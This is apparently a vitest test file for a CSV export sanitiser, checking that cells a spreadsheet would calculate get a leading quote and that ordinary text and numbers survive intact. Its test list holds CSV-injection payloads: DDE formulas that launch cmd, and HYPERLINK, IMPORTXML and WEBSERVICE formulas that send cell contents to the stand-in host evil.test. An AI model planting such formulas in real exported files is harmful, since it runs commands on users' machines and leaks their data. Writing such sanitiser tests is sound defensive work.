import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLine, withoutFormula } from "../../../src/app/reports/csv.ts";
import { money } from "../../../src/domain/money.ts";

const CALCULATES = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
  '=WEBSERVICE("http://evil.test/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=@SUM(A1:A9)",
  "==1",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+33 1 23 45 67 89",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-",
  "--1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@handle",
  " =1+1",
  "   =1+1",
  " +1",
  " -1",
  " @x",
  "\t=1+1",
  "\ttext",
  "\r=1+1",
  "\rtext",
  "\n=1+1",
  "\ntext",
  "\0=1+1",
  "\0text",
  "\u00a0=1+1",
  "\u2003=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "\u0001=1+1",
  "\u001b=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20x",
  " \t \u00a0=1+1",
] as const;

describe("a text that a spreadsheet would calculate", () => {
  it.each(CALCULATES.map((text) => [text]))("becomes text: %j", (text) => {
    const safe = withoutFormula(text);
    expect(safe.startsWith("'")).toBe(true);
    expect(safe.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
    const [[field = ""] = []] = parse(csvLine([text])) as string[][];
    expect(field).toBe(safe);
  });

  it.each([
    ["a;=1+1", "a;'=1+1"],
    ["a; =1+1;@b", "a; '=1+1;'@b"],
    ["a\t+1", "a\t'+1"],
    ["a\n=1", "a\n'=1"],
    ["a\r\n-1", "a\r\n'-1"],
  ])("is stopped in the middle too, where another list separator would begin a cell: %j", (text, safe) => {
    expect(withoutFormula(text)).toBe(safe);
  });

  it.each([
    "O'Neill & Sons",
    "Müller GmbH",
    "a=b",
    "2+2",
    "x@y.test",
    "shop-01",
    "'quoted'",
    "",
    "0012",
    "1E5",
    "# hash",
  ])("is not suspected when it is an ordinary text: %j", (text) => {
    expect(withoutFormula(text)).toBe(text);
  });
});

describe("a line", () => {
  it("keeps amounts and counts as plain numbers, below zero too", () => {
    expect(csvLine([money("EUR", -1_234n), money("JPY", -5n), money("BHD", 1_234n), -3, 12n, null])).toBe(
      "-12.34,-5,1.234,-3,12,\r\n",
    );
  });

  it("treats a text that looks like a number as the text it is", () => {
    expect(csvLine(["-12.34", "12.34"])).toBe("'-12.34,12.34\r\n");
  });

  it("is read back as it was by another reader, whatever it holds", () => {
    const cells = ['say "yes"', "a,b", "two\nlines", "cr\r\nlf", " spaces ", "semi;colon", "é€𝄞", ""];
    expect(parse(csvLine(cells) + csvLine(["next"]), { relax_column_count: true })).toEqual([cells, ["next"]]);
  });
});
